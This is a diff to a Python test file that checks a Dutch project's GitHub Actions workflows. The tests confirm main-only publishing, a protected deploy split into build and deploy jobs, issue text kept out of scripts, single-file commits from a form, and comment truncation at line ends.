+    assert "if" not in guard and guard["permissions"] == {} and not needs(guard)
+    (check,) = guard["steps"]
+    assert check["env"] == {"REF": "${{ github.ref }}"}
+    for ref, code in (("refs/heads/main", 0), ("refs/heads/feature", 1), ("refs/tags/main", 1)):
+        result = subprocess.run(
+            ["bash", "-e", "-c", check["run"]],
+            env={"PATH": os.environ["PATH"], "REF": ref},
+            capture_output=True,
+            text=True,
+        )
+        assert result.returncode == code, (ref, result.stdout)
+    for job_id, job in all_jobs.items():
+        if job_id == "alleen-main":
+            continue
+        assert job["if"].startswith("${{ " + ON_MAIN), (name, job_id)
+        reached, todo = set(), needs(job)
+        while todo:
+            reached.add(todo[0])
+            todo = todo[1:] + needs(all_jobs[todo[0]])
+        assert "alleen-main" in reached, (name, job_id)
+
+
+def test_every_publishing_caller_calls_a_workflow_limited_to_main(tmp_path):
+    registry = load_content(REPO / "content")[0].registry
+    callers = [workflow("publiceren.yml")]
+    for tier in TIERS:
+        spec = source_repo.SourceSpec(
+            tier,
+            source_repo.PLACEHOLDER_ENGINE_URL,
+            ENGINE_REF,
+            source_repo.PLACEHOLDER_PARTNERS_URL if tier.startswith("organisatie:") else None,
+        )
+        files = source_repo.scaffold(spec, registry, REPO / "content")
+        callers.append(yaml.safe_load(files[".github/workflows/publiceren.yml"]))
+    for caller in callers:
+        on = caller.get("on", caller.get(True))
+        assert "workflow_dispatch" in on and on["push"]["branches"] == ["main"]
+        for job in caller["jobs"].values():
+            assert re.search(r"/\.github/workflows/(wwidw-publiceren-[a-z]+\.yml)", job["uses"])
+            assert job["uses"].split("/")[-1].split("@")[0] in PUBLISHING
+
+
 def test_the_protected_deploy_is_one_audience_and_skipped_without_its_settings():
     reusable = workflow("wwidw-publiceren-beschermd.yml")
-    job = reusable["jobs"]["beschermd"]
-    assert job["if"] == "${{ inputs.host != '' }}"
-    assert job["environment"] == {"name": "beschermd"}
-    assert job["permissions"] == {"contents": "read"}
+    build, deploy = reusable["jobs"]["bouw"], reusable["jobs"]["publiceer"]
+    for job in (build, deploy):
+        assert job["if"] == "${{ " + ON_MAIN + " && inputs.host != '' }}"
+    assert "environment" not in build and build["permissions"] == {"contents": "read"}
+    assert deploy["environment"] == {"name": "beschermd"} and deploy["permissions"] == {}
     for _, job_id, other, _ in jobs():
         assert "secrets." not in str(other.get("if", "")), job_id  # not available at job level
-    check = job["steps"][0]
+    check = build["steps"][0]
     assert r"^(partners|organisatie:[a-z0-9]+(-[a-z0-9]+)*)$" in check["run"]  # never openbaar
-    deploy = next(s for s in job["steps"] if "rsync" in s.get("run", ""))
-    assert deploy["if"] == "${{ steps.instellingen.outputs.klaar == 'true' }}"
-    assert '-- "site/$FOLDER/" "$DEPLOY_USER@$DEPLOY_HOST:"' in deploy["run"]
-    build = next(s for s in job["steps"] if "wwidw build" in s.get("run", ""))
-    assert '--audience "$AUDIENCE"' in build["run"] and "alle" not in build["run"]
+    assert build["outputs"] == {"map": "${{ steps.publiek.outputs.map }}"}
+    made = next(s for s in build["steps"] if "wwidw build" in s.get("run", ""))
+    assert '--audience "$AUDIENCE"' in made["run"] and "alle" not in made["run"]
+    # The deploy job only downloads that one folder and pushes it.
+    assert [s.get("uses", "run").split("@")[0] for s in deploy["steps"]] == [
+        "run",
+        "actions/download-artifact",
+        "run",
+    ]
+    download, push = deploy["steps"][1:]
+    assert download["with"] == {
+        "name": "beschermde-site",
+        "path": "site/${{ needs.bouw.outputs.map }}",
+    }
+    for step in deploy["steps"][1:]:
+        assert step["if"] == "${{ steps.instellingen.outputs.klaar == 'true' }}"
+    assert '-- "site/$FOLDER/" "$DEPLOY_USER@$DEPLOY_HOST:"' in push["run"]
+    assert push["env"]["FOLDER"] == "${{ needs.bouw.outputs.map }}"
     assert set(reusable["on"]["workflow_call"]["secrets"]) == {"BRONNEN_TOKEN", "BESCHERMD_SSH_KEY"}
 
 
@@ -419,20 +1038,29 @@ def test_the_form_workflow_runs_on_the_label_and_keeps_the_issue_out_of_scripts(
         "sources": "content",  # this repository's form writes into its own (public) source only
         "descriptions-folder": "content/praktijken",
     }
-    job = workflow("wwidw-formulier.yml")["jobs"]["pull-request"]
+    reusable = workflow("wwidw-formulier.yml")["jobs"]
+    job, opener = reusable["schrijf"], reusable["pull-request"]
     assert f"github.event.label.name == '{TRIGGER_LABEL}'" in job["if"]
+    assert job["permissions"] == {"contents": "read"} and opener["needs"] == "schrijf"
     write = next(s for s in job["steps"] if "wwidw form " in s.get("run", ""))
     assert write["env"]["ISSUE_BODY"] == "${{ github.event.issue.body }}"
     assert """printf '%s' "$ISSUE_BODY" > "$RUNNER_TEMP/issue.md\"""" in write["run"]
-    opened = next(s for s in job["steps"] if "gh pr create" in s.get("run", ""))
+    assert write["env"]["FOLDER"] == "${{ inputs.descriptions-folder }}"
+    assert 'git ls-files -z --others --exclude-standard -- "$FOLDER"' in write["run"]
+    opened = next(s for s in opener["steps"] if "gh pr create" in s.get("run", ""))
     assert (
         opened["env"]["ISSUE_TITLE"] == "${{ github.event.issue.title }}"
         and '"$ISSUE_TITLE"' in opened["run"]
     )
-    assert 'git add --all -- "$FOLDER"' in opened["run"]
-    assert write["env"]["FOLDER"] == "${{ inputs.descriptions-folder }}"
-    assert 'git status --porcelain --untracked-files=all -- "$FOLDER"' in write["run"]
-    assert '--diff-filter=A | wc -l)" -eq 1' in opened["run"]
+    # Only one regular file with a description's name, new in the folder, is committed.
+    for part in (
+        r'[[ "$name" =~ ^[a-z0-9]+(-[a-z0-9]+)*\.md$ ]]',
+        '[ -L "${found[0]}" ] || [ ! -f "${found[0]}" ]',
+        '[ -e "$target" ] || [ -L "$target" ]',
+        'git add -- "$target"',
+        '--diff-filter=A | wc -l)" -eq 1',
+    ):
+        assert part in opened["run"], part
 
 
 # The workflows `wwidw source new` writes, linted like ours and against the reusable workflows.
@@ -554,3 +1182,24 @@ def test_the_pull_request_template_is_a_dutch_checklist():
     assert text.count("- [ ]") >= 5
     for word in ("persoonsgegevens", "zichtbaarheid", "concept: true", "wwidw validate"):
         assert word in text, word
+
+
+def test_a_long_review_comment_is_cut_at_a_line_end():
+    """The comment step's own truncation, run in node: a cut inside a line could split a code span
+    and turn the contributor text it held into links and mentions."""
+    script = next(
+        step["with"]["script"]
+        for _, job_id, step in steps()
+        if job_id == "reactie" and "github-script" in step.get("uses", "")
+    )
+    limit = re.search(r"const LIMIT = \d+;", script).group(0)
+    start = script.index("if (report.length > LIMIT)")
+    block = script[start : script.index("\n}\n", start) + 3]
+    line = "- `" + "x" * 70 + " https://example.com @iemand`\n"
+    report = line * (60_000 // len(line) + 5)
+    program = f"{limit}\nlet report = require('fs').readFileSync(0, 'utf8');\n{block}\nprocess.stdout.write(report);"
+    result = run(["node", "-e", program], stdin=report)
+    assert result.returncode == 0, result.stderr
+    kept = result.stdout.split("\n\n*(Ingekort")[0]
+    assert kept and len(kept) <= 60_000
+    assert all(text == line.rstrip("\n") for text in kept.rstrip("\n").split("\n"))
